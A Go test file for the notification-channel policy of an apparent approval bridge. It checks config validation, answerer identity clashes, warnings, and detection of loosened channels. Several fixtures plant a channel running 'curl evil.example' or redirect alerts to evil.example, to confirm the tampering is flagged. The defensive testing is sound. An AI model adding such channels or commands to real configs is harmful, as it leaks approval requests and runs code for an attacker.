package policy_test

import (
	"fmt"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/mcpx-protocol/mcpx-bridge/policy"
)

const channels = `version: 1
default: ask
approvers: {ops: [ann, ben]}
notify:
  phone:
    ntfy: https://ntfy.sh/nobody-guesses
    escalate: {after: 2m, to: team}
  team:
    slack: C01
    token: ${BOT}
    app_token: file:/etc/mcpx/slack
    trust: answers
    people: {U1: ann, U2: ben}
    remind: false
  ann:
    telegram: -100123
    token: ${TG}
    for: ops
  post:
    mail: [ann@example.com, ben@example.com]
    from: bridge@example.com
    server: smtp.example.com:587
`

func TestChannelsOfAFile(t *testing.T) {
	all := load(t, channels).Channels()
	var names []string
	for _, c := range all {
		names = append(names, c.Name)
	}
	if !reflect.DeepEqual(names, []string{"ann", "phone", "post", "team"}) {
		t.Fatalf("%v", names)
	}
	ann, phone, post, team := all[0], all[1], all[2], all[3]
	switch {
	case ann.To[0].Text != "-100123", ann.Secrets["token"].Env != "TG", !reflect.DeepEqual(ann.For, []string{"ann", "ben"}), !ann.Remind:
		t.Errorf("%+v", ann)
	case !reflect.DeepEqual(team.For, []string{"local", "ann", "ben"}), team.Remind, team.People["U2"] != "ben", team.Secrets["app_token"].File != "/etc/mcpx/slack":
		t.Errorf("%+v", team)
	case phone.At(all) != 0, post.At(all) != 15*time.Second, team.At(all) != 2*time.Minute:
		t.Errorf("they hear after %s, %s, %s", phone.At(all), post.At(all), team.At(all))
	}
}

func TestAChannelThatCannotWorkIsAMistakeInTheFile(t *testing.T) {
	for text, want := range map[string]string{
		"ntfy: http://ntfy.sh/x":                                         "notify.x.ntfy: http:// tells everybody on the way",
		"ntfy: https://ntfy.sh":                                          "notify.x.ntfy names no topic",
		"ntfy: https://ntfy.sh/our.alerts":                               "notify.x.ntfy names no topic that ntfy knows",
		"ntfy: 'https://ntfy.sh/x?priority=5'":                           "notify.x.ntfy names no topic that ntfy knows",
		"ntfy: https://u:hunter2@ntfy.sh/x":                              "notify.x.ntfy: a name or a password in a URL is shown by programs",
		"webhook: https://h.example/x":                                   "notify.x.secret is missing: webhook does not work without it",
		"webhook: https://h.example/x, secret: hunter2":                  "notify.x.secret: a secret does not stand in a policy",
		"telegram: 7, token: '${T}', trust: answers":                     "notify.x.people is missing",
		"telegram: 7, token: '${T}', people: {7: ann}":                   "notify.x.people: nobody answers by a channel without trust: answers",
		"telegram: 7, token: '${T}', trust: answers, people: {7: local}": "notify.x.people: local is whoever sits there, and no channel speaks for them",
		"telegram: 7, token: '${T}', trust: all":                         "notify.x.trust is answers, not",
		"slack: C1, token: '${T}', trust: answers, people: {U: ann}":     "notify.x.app_token is missing",
		"ntfy: https://n.example/x, trust: answers, people: {a: ann}":    "notify.x.trust: ntfy carries no answers",
		"mail: ann, from: b@x.org, server: 'x.org:25'":                   "is no address like ann@example.com",
		"mail: a@x.org, from: b@x.org, server: x.org":                    "notify.x.server: \"x.org\" is no host with a port",
		"mail: a@x.org, from: b@x.org, server: 'x.org:25', user: b":      "notify.x: user and password go together",
		"mail: a@x.org, command: x, from: b@x.org, server: 'x.org:25'":   "notify.x has exactly one of ntfy, webhook, slack, telegram, mail, command; this one has 2",
		"command: x, token: '${T}'":                                      "notify.x.token: command has no use for it",
		"command: x, escalate: {after: 1m, to: y}":                       "notify.x.escalate: there is no channel \"y\"",
		"command: x, escalate: {after: 1m, to: x}":                       "notify.x escalates to itself",
		"command: x, escalate: {after: 1m}":                              "notify.x.escalate says after how long",
		"command: x, after: 0s":                                          "notify.x.after is 0s",
		"telegram: 7, token: '${T}', api: '${WHERE}'":                    "notify.x.api is no secret",
		"telegram: 7, token: '${T}', trust: answers, people: {7: 'a*'}":  "is a pattern",
		"command: x, colour: red":                                        `notify.x has no key "colour"`,
	} {
		_, err := policy.Load("p.yaml", fmt.Appendf(nil, "version: 1\ndefault: ask\nnotify: {x: {%s}}\n", text))
		if err == nil || !strings.Contains(err.Error(), want) || strings.Contains(err.Error(), "hunter2") {
			t.Errorf("%s\ngot  %v\nwant %s", text, err, want)
		}
	}
}

// Where several must agree, each is somebody else: so nobody answers as two, by whatever channels
// of a kind.
func TestNobodyAnswersAsTwo(t *testing.T) {
	const one = "{telegram: 7, token: '${T}', trust: answers, people: {41: ann, 42: cy}}"
	for text, want := range map[string]string{
		"{telegram: 8, token: '${U}', trust: answers, people: {43: ben, 41: ben}}":                  "p.yaml:5:3: notify.y.people: 41 is ben here, and ann at x (line 4)",
		"{telegram: 8, token: '${U}', trust: answers, people: {41: ann}}":                           "",
		"{telegram: 8, token: '${U}', api: 'https://t.example', trust: answers, people: {41: ben}}": "41 is ben here",
		"{slack: C1, token: '${U}', app_token: '${A}', trust: answers, people: {41: ben}}":          "",
		"{telegram: 8, token: '${U}', trust: answers, people: {44: ann, 45: ben}}":                  "",
		"{telegram: 8, token: '${U}', trust: answers, people: {44: ann, 44: ben}}":                  "44",
		"{telegram: 8, token: '${U}', trust: answers, people: {44: ann, '44': ben}}":                "44",
	} {
		_, err := policy.Load("p.yaml", fmt.Appendf(nil, "version: 1\ndefault: ask\nnotify:\n  x: %s\n  y: %s\n", one, text))
		if (err == nil) != (want == "") || err != nil && !strings.Contains(err.Error(), want) {
			t.Errorf("%s\ngot  %v\nwant %s", text, err, want)
		}
	}
}

// Whoever can write the file could send questions elsewhere, have a command run as its owner, or
// answer: that waits for a yes. What only tells later, or less, counts at once.
func TestAChannelThatIsNewOrBelievedIsAskedAbout(t *testing.T) {
	for _, c := range []struct{ old, new, want string }{
		{"  post:\n", "  evil: {command: curl evil.example}\n  post:\n", "notify: evil (line 19) is new or changed, and hears of questions: command curl evil.example"},
		{"https://ntfy.sh/nobody-guesses", "https://evil.example/x", "notify: phone (line 5) is new or changed, and hears of questions: ntfy https://evil.example/x"},
		{"${BOT}", "${OTHER}", "notify: team (line 8) is new or changed"},
		{"    for: ops\n", "    for: ops\n    api: https://evil.example\n", "api https://evil.example"},
		{"U2: ben", "U2: ben, U3: ann", "notify: answers of U3 at team count as those of ann now (trust: answers)"},
		{"U2: ben", "U2: ann", "notify: answers of U2 at team count as those of ann now"},
		{"    for: ops\n", "    for: ops\n    trust: answers\n    people: {7: ann}\n", "notify: answers of 7 at ann count as those of ann now"},
		{"    for: ops\n", "    for: [ops, local]\n", "notify: ann hears of the questions of local too"},

		{"    remind: false\n", "", ""},
		{", U2: ben", "", ""},
		{"after: 2m", "after: 3m", ""},
		{"    escalate: {after: 2m, to: team}\n", "", ""},
		{"    server: smtp.example.com:587\n", "    server: smtp.example.com:587\n    after: 1h\n", ""},
		{"    trust: answers\n    people: {U1: ann, U2: ben}\n", "    for: [local, ann, ben]\n", ""},
	} {
		after := strings.Replace(channels, c.old, c.new, 1)
		if after == channels {
			t.Fatal(c.old)
		}
		got := strings.Join(policy.Looser(load(t, channels), load(t, after)), "\n")
		if c.want == "" && got != "" || !strings.Contains(got, c.want) {
			t.Errorf("%s\ngot  %q\nwant %q", c.new, got, c.want)
		}
	}
	without, _, _ := strings.Cut(channels, "notify:")
	if got := policy.Looser(load(t, channels), load(t, without)); len(got) > 0 {
		t.Errorf("to tell nobody is looser: %q", got)
	}
}

func TestAChannelThatHearsOfNothingIsWarnedOf(t *testing.T) {
	const head = "version: 1\ndefault: ask\nasks: {default: {of: [local, ann], within: 5m}}\nnotify:\n  x: "
	for text, want := range map[string]string{
		"{command: x}":            "",
		"{command: x, after: 4m}": "",
		"{command: x, after: 5m}": "notify: x (line 5) hears of a question that has been open for 5m, and none is open for longer than 5m",
		"{command: x, escalate: {after: 1h, to: y}}\n  y: {command: y}": "notify: y (line 6) hears of a question that has been open for 1h, and none",
		"{command: x, for: ben}": "notify: x (line 5) hears of the questions of ben, whom no rule asks",
		"{telegram: 7, token: '${T}', trust: answers, people: {7: ann, 8: ben}}":       "notify: x (line 5) takes answers as those of ben, whom no rule asks",
		"{telegram: 7, token: '${T}', trust: answers, people: {7: ann}, for: [local]}": "",
	} {
		got := strings.Join(load(t, head+text+"\n").Warnings(nil), "\n")
		if want == "" && got != "" || !strings.Contains(got, want) {
			t.Errorf("%s\ngot  %q\nwant %q", text, got, want)
		}
	}
}
